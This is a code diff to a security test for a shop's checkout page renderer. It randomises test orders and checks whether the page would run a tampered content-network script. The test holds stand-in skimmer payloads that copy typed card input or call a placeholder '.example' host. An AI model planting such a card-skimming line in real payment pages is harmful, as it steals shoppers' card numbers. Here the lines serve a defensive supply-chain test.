@@ -1,11 +1,18 @@
 import assert from 'node:assert/strict'
 import { createHash } from 'node:crypto'
-import type { Breach } from '#proof/vary'
-import type { Page } from './checkout-page.ts'
+import type { Breach, Vary } from '#proof/vary'
+import type { Order, Page } from './checkout-page.ts'
 
 type Code = typeof import('./checkout-page.ts')
 
-const order = { id: 'o-17', currency: 'EUR', lines: [{ title: 'Tea <green>', amount: 12.5 }, { title: 'Pot', amount: 30 }] }
+/** Another order each time, so that no page can be the one that a run has shown. */
+function draw(vary: Vary): { order: Order; title: string; total: string } {
+  const title = vary.remark()
+  const [tea, pot] = [vary.number(100, 99_999), vary.number(100, 99_999)]
+  const order = { id: `o-${vary.text(6)}`, currency: 'EUR', lines: [{ title, amount: tea / 100 }, { title: vary.word(), amount: pot / 100 }] }
+  return { order, title, total: ((tea + pot) / 100).toFixed(2) }
+}
+
 const genuine = 'mountCardFields()'
 
 const shop = 'https://shop.example.com'
@@ -41,17 +48,26 @@ function load({ headers, html }: Page, files: (address: string) => string | unde
   return run
 }
 
-export async function works({ renderCheckout }: Code) {
+/** A text on the page, as the browser shows it. */
+const shown = ({ html }: Page) =>
+  html.replace(/<[^>]*>/g, ' ').replace(/&(lt|gt|quot|amp|#39|#x27);/g, (one) => ({ '&lt;': '<', '&gt;': '>', '&quot;': '"', '&amp;': '&' })[one] ?? "'").replaceAll(',', '')
+
+export async function works({ renderCheckout }: Code, vary: Vary) {
   const files = serve(genuine)
+  const { order, title, total } = draw(vary)
   const page = await renderCheckout(order)
-  assert.match(page.html, /Tea &lt;green&gt;/, 'The title of a product should be on the page, with its brackets escaped.')
-  assert.match(page.html, /€42\.50/, 'The sum should be on the page.')
+  assert.ok(shown(page).includes(title.replaceAll(',', '')), `The title of a product, ${title}, should be on the page with its signs escaped.`)
+  assert.ok(shown(page).includes(total), `The sum, ${total}, should be on the page.`)
+  assert.ok(page.html.includes(`/orders/${order.id}/payment`), 'The form should pay the order that is shown.')
   assert.deepEqual(load(page, files), [genuine], 'The browser should run the library that the shop has chosen.')
 }
 
 /** The file on the content network was replaced by one that also sends card numbers away. */
-export async function exploit({ renderCheckout }: Code): Promise<Breach | false> {
-  const hostile = `${genuine};addEventListener('input', copyToEvil)`
-  const files = serve(hostile)
-  return load(await renderCheckout(order), files).includes(hostile) && { sent: `another file on the content network: ${hostile}`, got: 'the browser runs it on the page on which people type their card numbers' }
+export async function exploit({ renderCheckout }: Code, vary: Vary): Promise<Breach | false> {
+  for (const hostile of vary.shuffle([`${genuine};addEventListener('input', ${vary.word()})`, `copyTo('https://${vary.word()}.example');${genuine}`])) {
+    const files = serve(hostile)
+    if (load(await renderCheckout(draw(vary).order), files).includes(hostile))
+      return { sent: `another file on the content network: ${hostile}`, got: 'the browser runs it on the page on which people type their card numbers' }
+  }
+  return false
 }
